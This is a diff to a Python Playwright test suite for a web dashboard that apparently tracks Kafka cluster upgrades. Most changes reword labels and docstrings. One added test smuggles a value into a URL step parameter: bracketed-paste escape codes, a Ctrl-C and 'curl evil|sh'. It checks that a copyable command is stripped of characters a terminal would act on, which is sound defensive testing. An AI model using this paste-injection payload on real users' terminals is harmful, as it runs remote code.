@@ -8,6 +8,7 @@ from collections.abc import AsyncIterator
 from contextlib import AsyncExitStack, asynccontextmanager
 from dataclasses import dataclass, field
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 
@@ -190,7 +191,7 @@ async def test_steps_are_rehearsed(browser: Any) -> None:
     """A form takes them, a result names each, and a step that is wrong is explained."""
     async with tab(browser) as shown:
         await shown.page.goto(f"{shown.server.url}?view=rehearsal{OF_CLUSTER}")
-        steps = shown.page.get_by_label("Steps, one a line")
+        steps = shown.page.get_by_label("Steps, one per line")
         await steps.fill("explode:broker-1")
         await shown.page.get_by_role("button", name="Rehearse", exact=True).click()
         await shown.shows("is wrong")
@@ -200,6 +201,17 @@ async def test_steps_are_rehearsed(browser: Any) -> None:
         await shown.shows("by controller 1, Kafka 4.0")
         assert "stop" in shown.page.url
         assert all("400" in line for line in shown.console)
+
+
+async def test_a_command_to_copy_has_nothing_that_a_terminal_obeys(browser: Any) -> None:
+    """The steps come from the address, which anybody may have written; what a paste would run is
+    left out, as it is not seen."""
+    step = quote("stop:broker-1\x1b[201~\x03curl evil|sh\r\u202e#")
+    async with tab(browser) as shown:
+        await shown.page.goto(f"{shown.server.url}?view=rehearsal&steps={step}{OF_CLUSTER}")
+        command = shown.page.locator("p.command code")
+        await expect(command).to_contain_text("'stop:broker-1[201~curl evil|sh#'")
+        assert (await command.text_content() or "").isprintable()
 
 
 async def test_nodes_are_drawn_one_by_one_on_demand(browser: Any) -> None:
@@ -225,7 +237,7 @@ async def test_a_migration_warns_in_every_view_of_its_cluster(browser: Any) -> N
     async with tab(browser, moving) as shown:
         await shown.open("?view=cluster&cluster=moving")
         await shown.shows("do not change metadata.version now")
-        await shown.page.get_by_role("link", name="How far it is").click()
+        await shown.page.get_by_role("link", name="Progress of the migration").click()
         await shown.shows("pre-migration")
         await expect(shown.page.locator("dl").last).to_contain_text("2-3")
 
@@ -258,8 +270,8 @@ async def test_a_roll_is_followed_to_its_end_without_a_reload(browser: Any) -> N
         assert shown.console == []
 
 
-async def test_the_page_goes_on_after_a_restart_of_the_server(browser: Any) -> None:
-    """Another process on the same port knows nothing of the stream before: all is read anew."""
+async def test_the_page_continues_after_a_restart_of_the_server(browser: Any) -> None:
+    """A new process on the same port does not know the earlier stream: all is read again."""
     async with tab(browser) as shown:
         await shown.open(CLUSTER)
         await shown.shows("1 of 3 nodes on 4.0")
@@ -270,7 +282,7 @@ async def test_the_page_goes_on_after_a_restart_of_the_server(browser: Any) -> N
 
 
 async def test_more_tabs_than_connections_are_live(browser: Any) -> None:
-    """Eight tabs share one stream; when the one that reads it is closed, another goes on."""
+    """Eight tabs share one stream; when the one that reads it is closed, another takes over."""
     async with tab(browser) as shown:
         pages = [shown.page, *[await shown.page.context.new_page() for _ in range(7)]]
         for page in pages:
@@ -329,7 +341,7 @@ async def test_markup_in_names_is_text(browser: Any) -> None:
 
 
 async def test_rows_stay_where_they_are_until_they_are_sorted(browser: Any) -> None:
-    """A cluster that becomes critical is marked in its place, and one button sorts anew."""
+    """A cluster that becomes critical is marked in its place, and one button sorts again."""
     others = [state_of(f"cluster-{number}", at_ms=now_ms()) for number in range(5)]
     async with tab(browser, *others) as shown:
         await shown.open()
@@ -340,7 +352,7 @@ async def test_rows_stay_where_they_are_until_they_are_sorted(browser: Any) -> N
             "critical", timeout=DEADLINE_MS
         )
         assert await rows.all_text_contents() == before
-        await shown.page.get_by_role("button", name="sort anew").click()
+        await shown.page.get_by_role("button", name="sort again").click()
         await expect(rows.first).to_have_text("cluster-4", timeout=DEADLINE_MS)
 
 
@@ -377,7 +389,7 @@ async def test_every_view_has_its_content_as_json(browser: Any) -> None:
 
 
 async def test_it_fits_a_narrow_window(browser: Any) -> None:
-    """At 320 pixels tables scroll by themselves, the page does not (WCAG 1.4.10)."""
+    """At 320 pixels only the tables scroll, the page does not (WCAG 1.4.10)."""
     async with tab(browser) as shown:
         add_history(shown)
         await shown.page.set_viewport_size({"width": 320, "height": 700})
@@ -412,7 +424,7 @@ async def test_it_is_used_by_the_keyboard(browser: Any) -> None:
         await shown.shows("Broker 1 must be upgraded.")
 
 
-@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("scheme", ["light", pytest.param("dark", marks=pytest.mark.nightly)])
 async def test_axe_finds_nothing(browser: Any, scheme: str) -> None:
     """WCAG's rules hold in every view, in both schemes, and with forced colours."""
     axe = pytest.importorskip("axe_playwright_python.async_playwright")
